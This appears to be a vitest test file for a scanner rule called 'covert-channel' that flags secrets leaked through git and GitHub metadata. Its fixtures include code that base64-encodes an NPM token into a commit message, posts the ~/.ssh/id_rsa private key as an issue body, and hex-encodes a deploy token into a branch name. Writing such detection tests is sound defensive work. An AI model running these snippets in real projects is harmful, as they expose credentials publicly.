import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const hits = async (path: string, code: string) =>
  (await found(path, code)).filter((one) => one.includes("covert-channel"));

test.each([
  [
    "a commit message",
    "a.js",
    'const { execFileSync } = require("child_process");\nconst tag = Buffer.from(process.env.NPM_TOKEN).toString("base64");\nexecFileSync("git", ["commit", "-m", "chore: update " + tag]);\n',
    "warn covert-channel:3",
  ],
  [
    "the text of an issue",
    "a.py",
    "import os, subprocess\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nsubprocess.run(['gh', 'issue', 'create', '--title', 'x', '--body', key])\n",
    "block covert-channel:3",
  ],
  [
    "the name of a branch",
    "a.py",
    "import os\nos.system(f\"git checkout -b fix-{os.environ['DEPLOY_TOKEN'].encode().hex()}\")\n",
    "warn covert-channel:2",
  ],
])("finds secrets in %s", async (_, path, code, expected) => {
  expect(await hits(path, code)).toEqual([expected]);
});

test.each([
  [
    "a message from a file",
    "a.py",
    "import subprocess\nsubprocess.run(['git', 'commit', '-m', open('msg.txt').read()])\n",
  ],
  ["a number of a build", "a.py", "import os\nos.system(f\"git tag v{os.environ['BUILD_NUMBER']}\")\n"],
  [
    "a login for the push",
    "a.py",
    "import os\nos.system(f\"git push https://x:{os.environ['GITHUB_TOKEN']}@github.com/me/repo.git\")\n",
  ],
])("leaves %s alone", async (_, path, code) => {
  expect(await hits(path, code)).toEqual([]);
});
